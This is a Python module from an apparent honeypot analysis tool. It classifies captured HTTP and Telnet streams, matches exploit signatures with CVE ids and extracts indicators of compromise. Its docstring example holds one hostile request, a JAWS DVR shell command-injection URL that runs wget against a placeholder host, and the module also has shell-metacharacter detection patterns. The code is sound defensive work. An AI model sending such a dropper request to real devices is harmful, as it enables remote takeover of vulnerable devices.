"""Classify one client stream: which application, what it asked, which signatures, which IOCs.

:func:`classify` takes the bytes a client sent on one connection (already
reassembled), optionally the destination port and the server's bytes, and
returns a :class:`Classification`: the application (``http``, ``telnet`` or
``unknown``), the parsed fields, the matching signatures with their kind,
CVE and JVN ids, the indicators and, for Telnet, the login attempts. It never
raises on hostile input and never resolves, fetches or runs anything found in
it. :func:`explain` adds, for ``teiten signatures test``, every condition's
outcome.

>>> c = classify(b"GET /shell?cd+/tmp;wget+http://198.51.100.7/j HTTP/1.1\\r\\n\\r\\n")
>>> c.app, c.kind, c.signatures, [i.value for i in c.indicators][:2]
('http', 'exploit', ('sig.jaws-dvr-shell-rce',), ['http://198.51.100.7/j', '198.51.100.7'])
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any
from urllib.parse import unquote, unquote_plus

from teiten.classify.http import MAX_INPUT, HttpRequest, looks_like_http, parse_http
from teiten.classify.indicators import (
    MAX_INDICATORS,
    Indicator,
    extract_indicators,
    extract_indicators_from_bytes,
)
from teiten.classify.mirai_credentials import is_mirai_pair
from teiten.classify.signatures import KINDS, Evidence, Fields, Signature, SignatureSet
from teiten.classify.signatures import load_signatures as _load
from teiten.classify.soap import SoapMessage, header_action, looks_like_soap, parse_soap
from teiten.classify.telnet import Login, TelnetSession, commands_of, logins, parse_telnet
from teiten.errors import InputError
from teiten.session import Shell

UNKNOWN_CACHE = 16384
"""Classifications of unknown-application streams kept (by indicators and port)."""
TELNET_PORTS = frozenset({23, 2323, 3323, 4323})
SSH_PORTS = frozenset({22, 2222})
_SHA256 = re.compile(r"[0-9a-fA-F]{64}")
_QUIET_HEADERS = frozenset({"host", "content-length", "content-type", "accept", "connection",
                            "accept-encoding", "accept-language", "authorization", "referer",
                            "origin"})  # fmt: skip
"""Headers never read for commands (their URLs are not droppers)."""
_SHELL = re.compile(r"`|\$\(|;|&&|\||\$\{?IFS")
_PROMPT = re.compile(rb"(?i)login\s*:|password\s*:")


@dataclass(frozen=True)
class Request:
    """One HTTP request with its SOAP call (if any) and the signatures it matched."""

    http: HttpRequest
    soap: SoapMessage | None
    signatures: tuple[str, ...] = ()

    def to_dict(self) -> dict[str, Any]:
        h, s = self.http, self.soap
        soap = None if s is None else {
            "action": s.action, "namespace": s.namespace, "header_action": s.header_action,
            "args": s.arguments, "notes": list(s.notes),
        }  # fmt: skip
        return {
            "method": h.method, "target": h.target, "path": h.path, "version": h.version,
            "headers": [list(kv) for kv in h.headers], "body_length": len(h.body), "soap": soap,
            "signatures": list(self.signatures), "notes": list(h.notes),
        }  # fmt: skip


@dataclass(frozen=True)
class Classification:
    """What one client stream is; :meth:`to_dict` gives plain JSON-ready data."""

    app: str
    kind: str | None
    """The strongest kind among the matches (see ``signatures.KINDS``), or None."""
    signatures: tuple[str, ...]
    cves: tuple[str, ...]
    jvn: tuple[str, ...]
    indicators: tuple[Indicator, ...]
    requests: tuple[Request, ...] = ()
    telnet: TelnetSession | None = None
    logins: tuple[Login, ...] = ()
    notes: tuple[str, ...] = ()
    dst_port: int | None = None

    def to_dict(self) -> dict[str, Any]:
        telnet = None if self.telnet is None else {
            "lines": list(self.telnet.lines), "options": list(self.telnet.options),
            "server_events": None if self.telnet.events is None else list(self.telnet.events),
            "commands": list(commands_of(self.logins)), "notes": list(self.telnet.notes),
        }  # fmt: skip
        return {
            "app": self.app, "dst_port": self.dst_port, "kind": self.kind,
            "signatures": list(self.signatures), "cves": list(self.cves), "jvn": list(self.jvn),
            "indicators": [{"type": i.type, "value": i.value} for i in self.indicators],
            "requests": [r.to_dict() for r in self.requests], "telnet": telnet,
            "logins": [{"username": x.username, "password": x.password, "success": x.success,
                        "mirai_dict": x.mirai_dict, "commands": list(x.commands)}
                       for x in self.logins],
            "notes": list(self.notes),
        }  # fmt: skip


def detect_app(client: bytes, dst_port: int | None = None, server: bytes | None = None) -> str:
    """``http`` for a request line, ``telnet`` for IAC, a Telnet port or login prompts."""
    if looks_like_http(client):
        return "http"
    if client[:1] == b"\xff" or dst_port in TELNET_PORTS:
        return "telnet"
    if server and (server[:1] == b"\xff" or _PROMPT.search(server[:4096])):
        return "telnet"
    return "unknown"


def classify(
    client_bytes: bytes,
    *,
    dst_port: int | None = None,
    server_bytes: bytes | None = None,
    signatures: SignatureSet | None = None,
) -> Classification:
    """Classify what a client sent on one connection (see the module notes)."""
    sigs = signatures if signatures is not None else _load()
    client = bytes(client_bytes)
    app = detect_app(client, dst_port, server_bytes)
    if app == "http":
        return _classify_http(client, dst_port, sigs)
    if app == "telnet":
        return _classify_telnet(client, server_bytes, dst_port, sigs)
    return _unknown(extract_indicators_from_bytes(client[:MAX_INPUT]), dst_port)


@lru_cache(maxsize=UNKNOWN_CACHE)
def _unknown(indicators: tuple[Indicator, ...], dst_port: int | None) -> Classification:
    """The classification of a stream of no known application: one object for each
    (indicators, port), as most such streams are random bytes with none (a frozen
    dataclass costs more to build than to look up)."""
    return Classification("unknown", None, (), (), (), indicators, dst_port=dst_port)


def classify_shell(
    shell: Shell, *, dst_port: int | None = None, signatures: SignatureSet | None = None
) -> Classification:
    """Classify a session a honeypot logged as a shell (Cowrie): its commands go through the
    same Telnet signatures and indicator extraction as the commands recovered from a
    captured Telnet stream; each download's URL and SHA-256 are indicators too.

    The application is the honeypot's protocol (``ssh``/``telnet``), else the port's.
    """
    sigs = signatures if signatures is not None else _load()
    app = shell.protocol if shell.protocol in ("ssh", "telnet") else ""
    if not app:
        app = "ssh" if dst_port in SSH_PORTS else "telnet" if dst_port in TELNET_PORTS else ""
    hits = sigs.match(Fields("telnet", commands=shell.commands))
    kind, cves, jvn = _summary(hits)
    found = dict.fromkeys(extract_indicators("\n".join(shell.commands)))
    for d in shell.downloads:
        if d.url:
            found.update(dict.fromkeys(extract_indicators("wget " + d.url.replace("\n", " "))))
        if _SHA256.fullmatch(d.shasum):
            found[Indicator("sha256", d.shasum.lower())] = None
    tried = tuple(
        Login(x.username, x.password, x.success, x.commands, is_mirai_pair(x.username, x.password))
        for x in shell.logins
    )
    return Classification(app or "unknown", kind, tuple(s.id for s in hits), cves, jvn,
                          tuple(found)[:MAX_INDICATORS], logins=tried,
                          dst_port=dst_port)  # fmt: skip


def _summary(matched: Sequence[Signature]) -> tuple[str | None, tuple[str, ...], tuple[str, ...]]:
    kinds = {s.kind for s in matched}
    kind = next((k for k in KINDS if k in kinds), None)
    cves = tuple(sorted({c for s in matched for c in s.cves}))
    return kind, cves, tuple(sorted({j for s in matched for j in s.jvn}))


def _soap_of(request: HttpRequest) -> SoapMessage | None:
    action = request.header("SOAPAction")
    if not looks_like_soap(request.body, action, request.header("Content-Type")):
        return None
    if not request.body.strip():
        return SoapMessage("", "", (), header_action(action))
    return parse_soap(request.body, action)


def http_fields(request: HttpRequest, soap: SoapMessage | None) -> Fields:
    """The fields HTTP signatures test, with URL-decoded variants of the target and body."""
    headers: dict[str, tuple[str, ...]] = {}
    for name, value in request.headers:
        key = name.lower()
        headers[key] = (*headers.get(key, ()), value)
    targets: tuple[str, ...] = (request.target,)
    if "%" in request.target:
        targets += (unquote(request.target, errors="replace"),)
    body = request.body.decode("utf-8", "backslashreplace")
    bodies: tuple[str, ...] = (body,)
    if "%" in body or "+" in body:
        bodies += (unquote_plus(body, errors="replace"),)
    return Fields(
        "http", request.method, targets, headers, bodies,
        soap.actions() if soap else (), soap.args if soap else (),
    )  # fmt: skip


def _command_text(request: HttpRequest, soap: SoapMessage | None, body: str) -> str:
    """The parts of a request that may carry a shell command, one per line."""
    parts = [request.target]
    parts += [v for _, v in soap.args] if soap and soap.args else [body]
    for name, value in request.headers:
        m = _SHELL.search(value) if name.lower() not in _QUIET_HEADERS else None
        if m:
            parts.append(value[m.start() :])
    return "\n".join(parts)


def _classify_http(client: bytes, dst_port: int | None, sigs: SignatureSet) -> Classification:
    parsed = parse_http(client)
    requests: list[Request] = []
    matched: dict[str, Signature] = {}
    found: dict[Indicator, None] = {}
    for http in parsed.requests:
        soap = _soap_of(http)
        fields = http_fields(http, soap)
        hits = sigs.match(fields)
        matched.update((s.id, s) for s in hits)
        requests.append(Request(http, soap, tuple(s.id for s in hits)))
        found.update(dict.fromkeys(extract_indicators(_command_text(http, soap, fields.bodies[0]))))
    kind, cves, jvn = _summary(list(matched.values()))
    return Classification("http", kind, tuple(matched), cves, jvn, tuple(found), tuple(requests),
                          notes=parsed.notes, dst_port=dst_port)  # fmt: skip


def _classify_telnet(
    client: bytes, server: bytes | None, dst_port: int | None, sigs: SignatureSet
) -> Classification:
    session = parse_telnet(client, server)
    found = logins(session)
    commands = commands_of(found)
    # Every Telnet condition tests a command (signature validation) and every signature
    # has one or more ``match`` conditions, so without commands none matches.
    hits = sigs.match(Fields("telnet", commands=commands)) if commands else ()
    kind, cves, jvn = _summary(hits)
    indicators = _command_indicators(session, commands)
    return Classification("telnet", kind, tuple(s.id for s in hits), cves, jvn, indicators,
                          telnet=session, logins=found, notes=session.notes,
                          dst_port=dst_port)  # fmt: skip


def _command_indicators(session: TelnetSession, commands: tuple[str, ...]) -> tuple[Indicator, ...]:
    """``extract_indicators("\\n".join(commands))``; a login's commands are the session's
    last lines, so they are read from the lines' bytes (one decode, no escapes to undo)."""
    n = len(commands)
    raw = session.raw_lines
    if n and len(raw) == len(session.lines) and session.lines[-n:] == commands:
        return extract_indicators_from_bytes(b"\n".join(raw[-n:]))
    return extract_indicators("\n".join(commands))


@dataclass(frozen=True)
class Check:
    """One condition's outcome in an explanation; ``ok`` is what the signature needs."""

    group: str
    """``match``, ``any 1``, ``none 1``…"""
    key: str
    condition: str
    ok: bool
    evidence: Evidence


def checks(sig: Signature, f: Fields) -> tuple[Check, ...]:
    """Every condition's outcome, to show why a signature did or did not match ``f``."""
    out = [Check("match", c.key, c.text, (e := c.test(f)) is not None, e) for c in sig.match_all]
    for label, groups, want in (("any", sig.any_of, True), ("none", sig.none_of, False)):
        for i, group in enumerate(groups, 1):
            for c in group:
                e = c.test(f)
                out.append(Check(f"{label} {i}", c.key, c.text, (e is not None) == want, e))
    return tuple(out)


@dataclass(frozen=True)
class Verdict:
    """One signature's outcome on a stream, with every condition's check."""

    signature: Signature
    matched: bool
    checks: tuple[Check, ...]

    @property
    def near_miss(self) -> bool:
        """Not matched, though a ``match`` or ``any`` condition other than the method held."""
        return not self.matched and any(
            c.ok and c.key != "method" and not c.group.startswith("none") for c in self.checks
        )


@dataclass(frozen=True)
class Report:
    """A classification and the verdict of every signature of its protocol, matches first."""

    classification: Classification
    verdicts: tuple[Verdict, ...]
    notes: tuple[str, ...] = ()


def explain(
    client_bytes: bytes,
    *,
    dst_port: int | None = None,
    server_bytes: bytes | None = None,
    signatures: SignatureSet | None = None,
) -> Report:
    """:func:`classify`, plus why each signature of the stream's protocol did or did not match."""
    sigs = signatures if signatures is not None else _load()
    result = classify(client_bytes, dst_port=dst_port, server_bytes=server_bytes, signatures=sigs)
    if result.app == "http":
        all_fields = [http_fields(r.http, r.soap) for r in result.requests]
    elif result.app == "telnet":
        all_fields = [Fields("telnet", commands=commands_of(result.logins))]
    else:
        all_fields = []
    verdicts = []
    for sig in sigs.for_protocol(result.app):
        tries = [Verdict(sig, sig.matches(f), checks(sig, f)) for f in all_fields]
        if tries:
            verdicts.append(max(tries, key=lambda v: (v.matched, sum(c.ok for c in v.checks))))
    verdicts.sort(key=lambda v: not v.matched)
    return Report(result, tuple(verdicts))


def explain_file(path: Path, *, dst_port: int | None = None, rules: Sequence[Path] = ()) -> Report:
    """:func:`explain` over a raw request file (at most 64 KiB of it is read)."""
    try:
        with open(path, "rb") as f:
            data = f.read(MAX_INPUT + 1)
    except OSError as e:
        raise InputError(f"cannot read {path}: {e.strerror or e}") from None
    report = explain(data[:MAX_INPUT], dst_port=dst_port, signatures=_load(rules))
    if len(data) <= MAX_INPUT:
        return report
    return Report(report.classification, report.verdicts, (f"read the first {MAX_INPUT} bytes",))
